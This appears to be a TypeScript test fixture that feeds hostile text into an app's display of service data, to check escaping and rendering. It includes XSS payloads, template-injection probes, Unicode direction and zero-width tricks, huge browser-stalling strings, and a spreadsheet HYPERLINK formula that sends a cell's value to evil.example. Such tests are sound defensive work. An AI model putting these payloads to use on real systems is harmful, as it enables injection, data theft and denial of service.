import { type Act, changes, changesFields, onRows } from './exchange.ts';
import { type Fault, type FaultRow, faults, type Observation, shows, spoiltRow } from './fault.ts';
import { healthyRows } from './healthy-answers.ts';

const allRows = { kind: 'answer', rows: healthyRows } as const;
const allShown: Fault['sees'] = { list: allRows, item: { kind: 'answer' } };
const message = { text: '<b onclick=x>\u202eno</b>', shown: '<b onclick=x>⟨U+202E⟩no</b>' };
const marks = '\u0301\u0352\u033f';

/** Text that tries to be markup, code or layout. `shown`: what is on screen, with hidden characters made visible. */
const texts: { name: string; text: string; shown?: string }[] = [
  { name: 'an image with a handler', text: '<img src=x onerror="window.hacked=1">' },
  { name: 'a script', text: '</script><script>window.hacked=1</script>' },
  { name: 'a frame', text: '<iframe srcdoc="<script>top.hacked=1</script>"></iframe>' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point of it.
  { name: 'templates', text: '${7*7} {{7*7}} #{7*7} <%= 7*7 %>' },
  { name: 'markdown', text: '[click](javascript:window.hacked=1) **bold** `code`' },
  { name: 'entities', text: '&lt;b&gt;&#x202E;&amp;' },
  { name: 'right-to-left override', text: 'AK\u202egpj.exe', shown: 'AK⟨U+202E⟩gpj.exe' },
  { name: 'isolates', text: 'A\u2066B\u2069C', shown: 'A⟨U+2066⟩B⟨U+2069⟩C' },
  { name: 'zero-width', text: 'Red\u200bline\ufeff', shown: 'Red⟨U+200B⟩line⟨U+FEFF⟩' },
  { name: 'new lines and tabs', text: 'one\r\ntwo\tthree', shown: 'one⟨U+000D⟩⟨U+000A⟩two⟨U+0009⟩three' },
  { name: 'NUL and escape', text: 'a\u0000b\u001b[31mc', shown: 'a⟨U+0000⟩b⟨U+001B⟩[31mc' },
  { name: 'a formula', text: '=HYPERLINK("http://evil.example/?x="&A1;"Click")' },
  { name: 'stacked marks', text: `Z${marks.repeat(40)}`, shown: `Z${marks.repeat(3).slice(0, 8)}…` },
  { name: 'Arabic beside Latin', text: 'سكين AK-47' },
];

/** Texts of about 200 KB each, which a browser needs seconds or minutes to lay out in full. */
export const costlyTexts: { name: string; text: string }[] = [
  { name: 'marks on one character', text: `Z${marks.repeat(33_000)}` },
  { name: 'marks in changing order', text: `Z${'\u0301\u0316'.repeat(50_000)}` },
  { name: 'a joined script without a break', text: 'سكين'.repeat(25_000) },
  { name: 'both directions in turn', text: 'سa'.repeat(60_000) },
  { name: 'a chain of joined emoji', text: `👩${'\u200d👩'.repeat(28_000)}` },
  { name: 'Thai', text: 'กี่'.repeat(20_000) },
  { name: 'a word without a break', text: 'W'.repeat(200_000) },
  { name: 'line breaks', text: '\n'.repeat(50_000) },
  { name: 'tabs', text: '\t'.repeat(50_000) },
];

export const hostileText = faults('Hostile text', [
  ...texts.map(({ name, text, shown = text }): FaultRow => {
    const observation: Observation = { kind: 'text', field: 'name', text, shown };
    const sees = { list: { ...allRows, observation }, item: shows(observation) };
    return [name, changesFields({ name: text }, spoiltRow), sees];
  }),
  ...costlyTexts.map(({ name, text }): FaultRow => [`endless: ${name}`, overlong(text), allShown]),
  ['an empty name', changesFields({ name: '' }, spoiltRow), allShown],
  [
    'an error message of the service',
    changesFields({ error_message: message.text, error_date: '2024-05-06 07:08:09' }),
    { item: shows({ kind: 'text', field: 'error_message', ...message }) },
  ],
]);

/** In every place where the service's text is shown, except those that identify the answer. */
function overlong(text: string): Act {
  return changes((good) => {
    const rest = good.pagination ? {} : { status: text, error_message: text };
    const everywhere = onRows(good, (fields) => ({ ...fields, market_hash_name: text, ...rest }));
    return onRows(everywhere, (fields) => ({ ...fields, name: text }), spoiltRow);
  });
}
